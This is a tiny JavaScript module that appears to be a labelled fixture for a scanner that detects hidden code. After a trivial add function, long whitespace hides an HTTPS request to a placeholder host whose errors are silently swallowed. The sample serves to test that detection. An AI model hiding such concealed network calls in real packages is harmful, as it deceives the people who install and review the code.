// Hostile: a harmless line, and far to the right of it code that no editor shows.
// Families: obfuscation. As a package: refused.
export const add = (a, b) => a + b;
const version = '1.0.0';                                                                                                                                                                require('node:https').get('https://x.example.invalid/').on('error', () => {});
export { version };
